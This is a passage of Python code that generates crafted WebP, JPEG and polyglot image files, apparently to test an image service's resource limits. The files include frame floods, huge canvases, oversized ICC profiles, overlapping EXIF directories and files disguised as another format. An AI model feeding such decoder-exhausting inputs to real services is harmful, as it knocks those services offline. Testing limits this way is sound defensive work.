def webp_canvas(width: int, height: int, flags: int) -> tuple[bytes, bytes]:
    """The chunk VP8X; flags: 2 animation, 4 XMP, 8 EXIF, 16 alpha, 32 profile."""
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"VP8X", bytes((flags, 0, 0, 0)) + size


def webp_picture(side: int = 64, **options: object) -> bytes:
    """The chunks of an ordinary picture."""
    buffer = io.BytesIO()
    Image.new("RGB", (side, side)).save(buffer, "WEBP", **options)
    return buffer.getvalue()[12:]


def webp_lossless_header(width: int, height: int) -> bytes:
    return riff((b"VP8L", b"\x2f" + struct.pack("<I", (width - 1) | (height - 1) << 14) + bytes(64)))


def _picture_chunk(side: int, **options: object) -> tuple[bytes, bytes]:
    data = webp_picture(side, **options)
    return data[:4], data[8 : 8 + struct.unpack("<I", data[4:8])[0]]


def webp_frames(count: int = 300_000) -> bytes:
    kind, body = _picture_chunk(16)
    frame = bytes(6) + (15).to_bytes(3, "little") * 2 + bytes(4) + kind + struct.pack("<I", len(body)) + body
    return riff(webp_canvas(16, 16, 2), (b"ANIM", bytes(6)), *[(b"ANMF", frame)] * count)


def webp_large_canvas(width: int = 8000, height: int = 8000) -> bytes:
    kind, body = _picture_chunk(16)
    frame = bytes(6) + (15).to_bytes(3, "little") * 2 + bytes(4) + kind + struct.pack("<I", len(body)) + body
    return riff(webp_canvas(width, height, 2 | 16), (b"ANIM", bytes(6)), (b"ANMF", frame), (b"ANMF", frame))


def webp_largest_canvas() -> bytes:
    return webp_large_canvas(1 << 24, 1 << 7)


def webp_wrong_canvas() -> bytes:
    return riff(webp_canvas(16, 16, 0), _picture_chunk(2000))


def webp_empty_chunks(count: int = 3_500_000) -> bytes:
    return riff(webp_canvas(16, 16, 0)) + b"abcd\0\0\0\0" * count


def webp_lossless(side: int = 8000) -> bytes:
    return riff(_picture_chunk(side, lossless=True, method=0))


def webp_lossy(side: int = 8000) -> bytes:
    return riff(_picture_chunk(side, quality=1, method=0))


def webp_alpha(side: int = 6000) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGBA", (side, side)).save(buffer, "WEBP", method=0)
    return buffer.getvalue()


def webp_header_only(side: int = 16_383) -> bytes:
    return webp_lossless_header(side, 3900)


def webp_profile(size: int = 30 << 20) -> bytes:
    return riff(webp_canvas(64, 64, 32), (b"ICCP", bytes(size)), _picture_chunk(64))


def webp_exif_overlapping(entries: int = 60_000, size: int = 20 << 20) -> bytes:
    return riff(webp_canvas(64, 64, 8), _picture_chunk(64), (b"EXIF", overlapping_directory(entries, size)))


# --- files of two kinds ---------------------------------------------------------------------------------------------


def png_inside_jpeg_comment(side: int = 8000) -> bytes:
    return with_segments(segment(0xFE, png(8, 8))) + png(side, side)


def jpeg_behind_tiff_header(scans: int = 1000) -> bytes:
    return b"II*\0" + struct.pack("<I", 1 << 31) + progressive(4096, 4096, scans)


KINDS: dict[str, Callable[[], bytes]] = {
    name: function
    for name, function in list(globals().items())
    if callable(function)
    and name.split("_")[0] in ("png", "apng", "tiff", "jpeg", "bmp", "webp")
    and name not in ("png", "tiff", "bmp", "jpeg_with_profile", "webp_canvas", "webp_picture", "webp_lossless_header")
}
"""Name -> function that makes a file of this kind at the size that the service's limits allow."""


QUICK: dict[str, dict[str, int]] = {
    **{
        name: {"side": 1500}
        for name in (
            *("png_grey_of_sixteen_bits", "png_alpha_of_sixteen_bits", "png_grey_alpha", "png_interlaced", "png_paeth"),
            *("png_palette_transparent", "png_palette_of_one_bit", "tiff_deflate", "tiff_packbits", "tiff_lzma"),
            *("tiff_floats", "tiff_doubles", "tiff_sixteen_bit_alpha", "tiff_inks", "tiff_planar"),
            *("webp_lossless", "webp_lossy", "webp_alpha", "jpeg_arithmetic", "jpeg_progressive_inks"),
            *("jpeg_scans_below_the_limit", "jpeg_baseline_scans"),
        )
    },
    "png_data_in_single_bytes": {"pixels": 100_000},
    "png_one_huge_text": {"size": 16 << 20},
    "png_profile_bomb": {"size": 16 << 20},
    "png_data_beyond_the_picture": {"size": 64 << 20},
    "tiff_one_tile": {"side": 10_000},
    "tiff_many_entries": {"count": 5_000},
    "tiff_fax": {"height": 100},
    "jpeg_scans": {"side": 1500, "scans": 8000},
}
"""Name -> arguments with which a kind is made and decoded in a fraction of a second; those missing always are."""
